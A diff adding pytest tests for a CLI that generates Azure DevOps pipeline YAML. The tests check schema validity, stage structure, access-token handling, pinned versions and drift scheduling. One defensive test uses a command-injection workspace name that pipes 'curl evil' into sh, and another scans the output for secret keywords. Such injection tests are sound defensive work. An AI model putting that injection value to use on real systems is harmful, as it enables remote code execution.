@@ -1,0 +1,363 @@
+"""`tofuflow pipeline init azure-devops`: the generated pipelines validate and are safe."""
+
+from __future__ import annotations
+
+import functools
+import itertools
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from click.testing import CliRunner
+from jsonschema import Draft7Validator
+
+from tofuflow.ci._pipelines import (
+    DRIFT_FILE,
+    MAIN_FILE,
+    TEMPLATE_FILE,
+    AgentPool,
+    PipelineOptions,
+    azure_devops_pipeline,
+)
+from tofuflow.cli._pipeline_cmd import pipeline
+from tofuflow.tofu._install import DEFAULT_VERSION
+
+SCHEMA = Path(__file__).parents[3] / "shared" / "schemas" / "azure-pipelines-service-schema.json"
+
+
+@functools.cache
+def _validator() -> Draft7Validator:
+    if not SCHEMA.is_file():
+        pytest.fail(
+            f"the Azure Pipelines schema is missing: expected {SCHEMA} "
+            "(../shared/schemas beside the repository)"
+        )
+    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
+    Draft7Validator.check_schema(schema)
+    return Draft7Validator(schema)
+
+
+def _validate(name: str, text: str) -> Any:
+    document = yaml.safe_load(text)
+    errors = sorted(_validator().iter_errors(document), key=lambda e: list(e.absolute_path))
+    messages = []
+    for error in errors:
+        deepest = sorted(error.context, key=lambda c: -len(c.absolute_path))[:3]
+        messages.append(
+            f"{list(error.absolute_path)}: "
+            + "; ".join(f"{list(c.absolute_path)} {c.message[:160]}" for c in deepest)
+        )
+    assert not errors, f"{name} does not validate:\n" + "\n".join(messages)
+    return document
+
+
+WORKSPACE_SETS = {"one": ["app/prod"], "many": ["app/dev", "app/prod", "net-core"]}
+POOLS = {"vmImage": AgentPool("ubuntu-latest"), "name": AgentPool("Self Hosted", "name")}
+COMBINATIONS = list(itertools.product([False, True], WORKSPACE_SETS, POOLS, ["drift", "no-drift"]))
+
+
+def _options(auto: bool, workspaces: str, pool: str, drift: str) -> PipelineOptions:
+    return PipelineOptions(
+        workspaces=WORKSPACE_SETS[workspaces],
+        plan_service_connection="sc-plan",
+        apply_service_connection="sc-apply",
+        environment="prod",
+        pool=POOLS[pool],
+        auto_apply_routine=auto,
+        drift_cron="0 3 * * *" if drift == "drift" else None,
+        branch="main",
+    )
+
+
+@pytest.fixture(
+    scope="module",
+    params=COMBINATIONS,
+    ids=[f"auto={a}-{w}-{p}-{d}" for a, w, p, d in COMBINATIONS],
+)
+def generated(request: pytest.FixtureRequest) -> tuple[PipelineOptions, dict[str, Any]]:
+    options = _options(*request.param)
+    files = azure_devops_pipeline(options)
+    return options, {name: _validate(name, text) for name, text in files.items()}
+
+
+def _steps(node: Any) -> list[dict[str, Any]]:
+    """Every step anywhere in a document."""
+    found: list[dict[str, Any]] = []
+    if isinstance(node, dict):
+        for key, value in node.items():
+            if key == "steps" and isinstance(value, list):
+                found.extend(value)
+            found.extend(_steps(value))
+    elif isinstance(node, list):
+        for item in node:
+            found.extend(_steps(item))
+    return found
+
+
+def test_every_file_validates_against_the_schema(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    options, documents = generated
+    expected = {MAIN_FILE, TEMPLATE_FILE} | ({DRIFT_FILE} if options.drift_cron else set())
+    assert set(documents) == expected
+
+
+def test_main_includes_the_template_per_workspace(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    options, documents = generated
+    main = documents[MAIN_FILE]
+    assert main["trigger"] == {"branches": {"include": ["main"]}}
+    assert [s["template"] for s in main["stages"]] == [TEMPLATE_FILE] * len(options.workspaces)
+    assert [s["parameters"]["workspace"] for s in main["stages"]] == options.workspaces
+    for stage in main["stages"]:
+        params = stage["parameters"]
+        assert params["opentofuVersion"] == DEFAULT_VERSION
+        assert params["pool"] == options.pool.to_yaml()
+        assert params["planServiceConnection"] == "sc-plan"
+        assert params["applyServiceConnection"] == "sc-apply"
+        assert re.fullmatch(r"[A-Za-z0-9_]+", params["stageId"])
+    declared = {p["name"] for p in documents[TEMPLATE_FILE]["parameters"]}
+    assert set(main["stages"][0]["parameters"]) == declared
+
+
+def test_plan_stage(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
+    _, documents = generated
+    plan = documents[TEMPLATE_FILE]["stages"][0]
+    assert plan["variables"] == {
+        "TOFUFLOW_PLAN_SERVICE_CONNECTION": "${{ parameters.planServiceConnection }}"
+    }
+    (job,) = plan["jobs"]
+    steps = job["steps"]
+    assert steps[0]["checkout"] == "self"
+    assert steps[1]["task"] == "UsePythonVersion@0"
+    assert "pip install" in steps[2]["bash"]
+    assert steps[3]["bash"] == 'tofuflow install "$OPENTOFU_VERSION"'
+    (plan_step,) = [s for s in steps if s.get("name") == "plan"]
+    assert 'tofuflow plan "$TOFUFLOW_WORKSPACE"' in plan_step["bash"]
+    assert plan_step["env"]["TOFUFLOW_WORKSPACE"] == "${{ parameters.workspace }}"
+    # The artifact: the checkout without .terraform/, published as a pipeline artifact.
+    copy = next(s for s in steps if s.get("task") == "CopyFiles@2")
+    assert "!**/.terraform/**" in copy["inputs"]["Contents"].splitlines()
+    publish = next(s for s in steps if s.get("task") == "PublishPipelineArtifact@1")
+    assert publish["inputs"]["targetPath"] == copy["inputs"]["TargetFolder"]
+    assert steps.index(copy) < steps.index(publish)
+
+
+def test_apply_stages_are_deployment_jobs_on_environments(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    options, documents = generated
+    template = documents[TEMPLATE_FILE]
+    plan_id = template["stages"][0]["stage"]
+    applies = template["stages"][1:]
+    assert len(applies) == (2 if options.auto_apply_routine else 1)
+    publish = next(s for s in _steps(template) if s.get("task") == "PublishPipelineArtifact@1")
+    for stage in applies:
+        assert stage["dependsOn"] == plan_id
+        assert "TOFUFLOW_APPLY_SERVICE_CONNECTION" in stage["variables"]
+        assert "changesPresent'], 'true')" in stage["condition"]
+        assert "Build.SourceBranch" in stage["condition"]
+        (job,) = stage["jobs"]
+        assert "deployment" in job and "job" not in job
+        assert job["variables"]["runId"] == (
+            f"$[ stageDependencies.{plan_id}.plan.outputs['plan.runId'] ]"
+        )
+        steps = job["strategy"]["runOnce"]["deploy"]["steps"]
+        assert steps[0] == {
+            "download": "current",
+            "artifact": publish["inputs"]["artifact"],
+            "displayName": "Download the plan artifact",
+        }
+        (apply_step,) = [s for s in steps if "tofuflow apply" in s.get("bash", "")]
+        assert apply_step["env"]["TOFUFLOW_RUN_ID"] == "$(runId)"
+        assert apply_step["workingDirectory"].endswith(publish["inputs"]["artifact"])
+    gated = applies[0]
+    assert gated["jobs"][0]["environment"] == "${{ parameters.environment }}"
+    if options.auto_apply_routine:
+        routine = applies[1]
+        assert routine["jobs"][0]["environment"] == "${{ parameters.routineEnvironment }}"
+        assert "eq(dependencies." in routine["condition"].split("changesPresent")[1]
+        assert "runStatus'], 'approved')" in routine["condition"]
+        assert "ne(dependencies." in gated["condition"] and "runStatus" in gated["condition"]
+        main_params = documents[MAIN_FILE]["stages"][0]["parameters"]
+        assert main_params["routineEnvironment"] == "prod-routine"
+    else:
+        assert "runStatus" not in gated["condition"]
+    assert documents[MAIN_FILE]["stages"][0]["parameters"]["environment"] == "prod"
+
+
+def test_access_token_mapped_into_every_tofuflow_step(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    _, documents = generated
+    checked = 0
+    for document in documents.values():
+        for step in _steps(document):
+            script = step.get("bash", "")
+            if re.search(r"tofuflow (plan|apply)", script):
+                assert step["env"]["SYSTEM_ACCESSTOKEN"] == "$(System.AccessToken)"
+                checked += 1
+    assert checked >= 2
+
+
+def test_no_secrets_or_global_variables(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    _, documents = generated
+    for name, document in documents.items():
+        assert "variables" not in document, f"{name} has pipeline-wide variables"
+        text = yaml.safe_dump(document)
+        assert not re.search(r"(?i)(password|client_secret|secret:|ARM_CLIENT_SECRET)", text)
+        # Every $(System.AccessToken) use is an env mapping, never inline in a script.
+        for step in _steps(document):
+            for key in ("bash", "script", "powershell", "pwsh"):
+                assert "System.AccessToken" not in step.get(key, "")
+                assert "${{" not in step.get(key, ""), "values reach scripts via env only"
+
+
+def test_pinned_versions(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
+    options, documents = generated
+    assert options.opentofu_version == DEFAULT_VERSION
+    params = {p["name"]: p for p in documents[TEMPLATE_FILE]["parameters"]}
+    assert params["opentofuVersion"]["default"] == DEFAULT_VERSION
+    if DRIFT_FILE in documents:
+        install = next(
+            s for s in _steps(documents[DRIFT_FILE]) if "tofuflow install" in s.get("bash", "")
+        )
+        assert install["env"]["OPENTOFU_VERSION"] == DEFAULT_VERSION
+        pip = next(s for s in _steps(documents[DRIFT_FILE]) if "pip install" in s.get("bash", ""))
+        assert pip["env"]["TOFUFLOW_VERSION"] == options.tofuflow_version
+
+
+def test_drift_pipeline(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
+    options, documents = generated
+    if options.drift_cron is None:
+        assert DRIFT_FILE not in documents
+        return
+    drift = documents[DRIFT_FILE]
+    assert drift["trigger"] == "none" and drift["pr"] == "none"
+    assert drift["schedules"][0]["cron"] == "0 3 * * *"
+    assert drift["schedules"][0]["branches"] == {"include": ["main"]}
+    (stage,) = drift["stages"]
+    assert stage["variables"] == {"TOFUFLOW_PLAN_SERVICE_CONNECTION": "sc-plan"}
+    assert stage["jobs"][0]["pool"] == options.pool.to_yaml()
+    checks = [s for s in _steps(drift) if "tofuflow plan" in s.get("bash", "")]
+    assert [s["env"]["TOFUFLOW_WORKSPACE"] for s in checks] == options.workspaces
+    for step in checks:
+        assert "exit 1" in step["bash"] and '"$code" -eq 2' in step["bash"]
+    assert "tofuflow apply" not in yaml.safe_dump(drift)
+
+
+def test_files_start_with_a_generated_header() -> None:
+    for text in azure_devops_pipeline(PipelineOptions(workspaces=["w"])).values():
+        assert text.startswith("# Generated by `tofuflow pipeline init azure-devops`")
+
+
+def test_awkward_workspace_names_stay_out_of_scripts() -> None:
+    evil = 'x"; curl evil | sh; echo "'
+    files = azure_devops_pipeline(PipelineOptions(workspaces=[evil, "b"]))
+    main = _validate(MAIN_FILE, files[MAIN_FILE])
+    assert main["stages"][0]["parameters"]["workspace"] == evil
+    assert re.fullmatch(r"[A-Za-z0-9_]+", main["stages"][0]["parameters"]["stageId"])
+    drift = yaml.safe_load(files[DRIFT_FILE])
+    for step in _steps(drift):
+        assert evil not in step.get("bash", "")
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("ubuntu-latest", {"vmImage": "ubuntu-latest"}),
+        ("vmImage:windows-2022", {"vmImage": "windows-2022"}),
+        ("name:My Pool", {"name": "My Pool"}),
+    ],
+)
+def test_agent_pool_parse(text: str, expected: dict[str, str]) -> None:
+    assert AgentPool.parse(text).to_yaml() == expected
+
+
+@pytest.mark.parametrize(
+    "kwargs",
+    [
+        {"workspaces": []},
+        {"workspaces": ["a", "a"]},
+        {"workspaces": ["a-b", "a_b"]},
+        {"workspaces": ["a"], "drift_cron": "every day"},
+        {"workspaces": ["a"], "environment": " "},
+    ],
+)
+def test_invalid_options(kwargs: dict[str, Any]) -> None:
+    with pytest.raises(ValueError):  # noqa: PT011 - each case has its own message
+        PipelineOptions(**kwargs)
+
+
+# -- the CLI ----------------------------------------------------------------------------
+
+
+def _init(runner: CliRunner, out: Path, *extra: str) -> Any:
+    return runner.invoke(
+        pipeline,
+        ["init", "azure-devops", "--workspace", "app/dev", "--workspace", "app/prod",
+         "--output-dir", str(out), *extra],
+    )  # fmt: skip
+
+
+def test_cli_writes_valid_files_and_next_steps(tmp_path: Path) -> None:
+    runner = CliRunner()
+    result = _init(
+        runner, tmp_path, "--pool", "name:Self Hosted", "--auto-apply-routine",
+        "--environment", "prod", "--plan-service-connection", "sc-plan",
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    for name in (MAIN_FILE, TEMPLATE_FILE, DRIFT_FILE):
+        path = tmp_path / name
+        assert path.is_file()
+        assert f"wrote {path}" in result.output
+        _validate(name, path.read_text(encoding="utf-8"))
+    main = yaml.safe_load((tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
+    assert main["stages"][1]["parameters"]["pool"] == {"name": "Self Hosted"}
+    assert main["stages"][1]["parameters"]["routineEnvironment"] == "prod-routine"
+    assert "'sc-plan'" in result.output
+    assert "Approvals" in result.output
+    assert "SYSTEM_ACCESSTOKEN: $(System.AccessToken)" in result.output
+
+
+def test_cli_without_drift(tmp_path: Path) -> None:
+    result = _init(CliRunner(), tmp_path, "--drift-cron", "")
+    assert result.exit_code == 0, result.output
+    assert not (tmp_path / DRIFT_FILE).exists()
+    assert (tmp_path / MAIN_FILE).is_file()
+
+
+def test_cli_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
+    runner = CliRunner()
+    (tmp_path / MAIN_FILE).write_text("# mine\n", encoding="utf-8")
+    result = _init(runner, tmp_path)
+    assert result.exit_code == 1
+    assert "--force" in result.output and str(tmp_path / MAIN_FILE) in result.output
+    assert (tmp_path / MAIN_FILE).read_text(encoding="utf-8") == "# mine\n"
+    assert not (tmp_path / TEMPLATE_FILE).exists(), "nothing is written on refusal"
+
+    forced = _init(runner, tmp_path, "--force")
+    assert forced.exit_code == 0, forced.output
+    _validate(MAIN_FILE, (tmp_path / MAIN_FILE).read_text(encoding="utf-8"))
+
+
+def test_cli_rejects_bad_options(tmp_path: Path) -> None:
+    runner = CliRunner()
+    result = _init(runner, tmp_path, "--drift-cron", "daily")
+    assert result.exit_code == 2 and "cron" in result.output
+    missing = runner.invoke(pipeline, ["init", "azure-devops", "--output-dir", str(tmp_path)])
+    assert missing.exit_code == 2 and "--workspace" in missing.output
+    assert not any(tmp_path.iterdir())
+
+
+def test_the_schema_check_catches_mistakes() -> None:
+    """Guards the validation itself: a deployment job with job-style steps is rejected."""
+    bad = {"stages": [{"stage": "s", "jobs": [{"deployment": "d", "steps": [{"bash": "x"}]}]}]}
+    assert list(_validator().iter_errors(bad))
+    assert not list(_validator().iter_errors(yaml.safe_load("stages: []")))
